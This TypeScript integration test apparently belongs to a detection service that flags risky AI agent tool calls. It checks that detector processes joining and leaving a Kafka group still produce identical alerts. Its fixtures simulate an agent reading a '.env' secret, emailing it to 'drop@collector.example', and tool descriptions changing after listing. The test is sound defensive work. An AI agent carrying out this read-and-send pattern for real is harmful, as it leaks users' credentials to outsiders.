import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type DetectionInput, recordsOf, shortRecordSchema } from "@tripline/detection";
import { encodeRecord, eventKey, TOPICS } from "@tripline/events";
import { type Log, openLog, triplineTopics } from "@tripline/stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Broker, startBroker } from "../infra/kafka/broker.ts";
import { loadRules } from "../services/detector/src/index.ts";
import { expectedAlerts, plainAlerts, readAlerts } from "./support/alerts.ts";
import { type OwnProcess, startProcess } from "./support/own-process.ts";
import { requirement } from "./support/requirements.ts";
import { waitFor } from "./support/wait-for.ts";

const BROKER_PORT = 22_000; // and its controller on the next
const PARTITIONS = 6;
const CREDENTIALS = 24;
const DETECTOR = new URL("../services/detector/src/main.ts", import.meta.url).pathname;
const CAUGHT_UP_MS = 60_000; // a killed member's partitions go to others after 10 s, on a machine that may be busy
const SECRET = "⟨secret:k1.0123456789abcdef⟩";
const LISTED = { name: "read_file", description: "Reads." };

describe.skipIf(requirement("kafka").missing)("detectors come and go", () => {
  const folder = mkdtempSync(join(tmpdir(), "tripline-detectors-"));
  const running: OwnProcess[] = [];
  const produced: DetectionInput[] = [];
  let broker: Broker;
  let log: Log;

  beforeAll(async () => {
    broker = await startBroker({ port: BROKER_PORT, dataDir: join(folder, "data") });
    log = await openLog({ url: `kafka://${broker.address}`, kafka: { clientId: "test" } });
    await log.ensureTopics(triplineTopics(PARTITIONS));
  }, 300_000);
  afterAll(async () => {
    await Promise.all(running.map((each) => each.end()));
    await log.close();
    await broker.stop();
    rmSync(folder, { recursive: true });
  }, 60_000);

  function startDetector(): OwnProcess {
    const started = startProcess(DETECTOR, {
      args: ["--log", `kafka://${broker.address}`, "--partitions", String(PARTITIONS), "--port", "0"],
      env: { TRIPLINE_LOG_LEVEL: "info" },
    });
    running.push(started);
    return started;
  }

  async function ready(detector: OwnProcess): Promise<void> {
    await waitFor(() => detector.output().includes("the detector is ready"), {
      what: "a detector",
      timeoutMs: CAUGHT_UP_MS,
    });
  }

  /** Records that happen now, after all that were produced before. */
  async function produce(shorts: readonly object[]): Promise<void> {
    const all = recordsOf(
      [...produced.map(() => ({ tool: "counted" })), ...shorts].map((each) => shortRecordSchema.parse(each)),
    ).slice(produced.length);
    const now = Date.now();
    const inputs = all.map(({ record: { envelope, payload } }, index): DetectionInput => {
      const seq = produced.length + index;
      const time = new Date(now + index).toISOString();
      const moved = { ...envelope, time, producer: { ...envelope.producer, seq } };
      return {
        record: { envelope: moved, ...(payload === undefined ? {} : { payload }) },
        appendTime: Number.MAX_SAFE_INTEGER,
      };
    });
    produced.push(...inputs);
    await log.produce(
      TOPICS.events,
      inputs.map(({ record }) => ({
        key: eventKey(record.envelope),
        value: new TextEncoder().encode(encodeRecord(record)),
      })),
    );
  }

  const credential = (n: number) => ({ credential: `local:agent-${n}`, session: `s${n}` });
  const range = (from: number, to: number) => Array.from({ length: to - from }, (_, index) => from + index);
  const read = (n: number) => ({
    ...credential(n),
    tool: "read_file",
    args: { path: ".env" },
    result: SECRET,
  });
  const send = (n: number) => ({
    ...credential(n),
    tool: "send_email",
    args: { to: "drop@collector.example", body: SECRET },
  });
  const listed = (n: number, server: string, description: string) => ({
    ...credential(n),
    server,
    listed: [{ ...LISTED, description }],
  });

  async function judged(topic: string, group: string): Promise<boolean> {
    const committed = await log.committed(topic, group);
    return (await log.offsets(topic)).every(
      ({ partition, next }) => (committed.get(partition)?.offset ?? 0) >= next,
    );
  }

  const caughtUp = () =>
    waitFor(async () => (await judged(TOPICS.events, "detector")) && judged(TOPICS.facts, "detector-facts"), {
      what: "all records to be judged",
      timeoutMs: CAUGHT_UP_MS,
    });

  it("what began before is completed after, whoever judges it: the same alerts as of one that was never disturbed", async () => {
    const first = startDetector();
    await ready(first);
    await produce(range(0, CREDENTIALS).map(read));
    await produce(range(0, 6).map((n) => listed(n, `server-${n}`, "As it was.")));
    await caughtUp();

    const second = startDetector(); // joins while records are judged
    await produce(range(0, 6).map(send));
    await ready(second);
    await produce(range(0, 2).map((n) => listed(n + 10, `server-${n}`, "Changed.")));
    await caughtUp();

    const third = startDetector();
    await ready(third);
    await produce(range(6, 12).map(send));
    await first.end("SIGKILL");
    await produce(range(12, 15).map(send));
    await produce(range(2, 4).map((n) => listed(n + 10, `server-${n}`, "Changed.")));
    await caughtUp();

    await produce(range(15, 18).map(send));
    await second.end("SIGTERM"); // leaves in good order
    await produce(range(18, 20).map(send));
    const fourth = startDetector();
    await third.end("SIGKILL");
    await ready(fourth);
    await produce(range(20, CREDENTIALS).map(send));
    await produce(range(4, 6).map((n) => listed(n + 10, `server-${n}`, "Changed.")));
    await caughtUp();

    const wanted = expectedAlerts(await loadRules(), produced);
    expect(wanted.length).toBeGreaterThanOrEqual(CREDENTIALS + 6);
    const ids = new Set(wanted.map(({ id }) => id));
    const found = await waitFor(
      async () => {
        const alerts = await readAlerts(log);
        return new Set(alerts.map(({ id }) => id)).size >= ids.size ? alerts : null;
      },
      { what: "all alerts", timeoutMs: CAUGHT_UP_MS },
    );
    await caughtUp();
    const whatever = [...new Set(plainAlerts(found))];
    console.info(`${found.length - whatever.length} alerts were written more than once`);
    // An alert that was written again is the same, letter for letter, but for when it was detected.
    expect(whatever).toEqual(plainAlerts(wanted));
  }, 300_000);
});
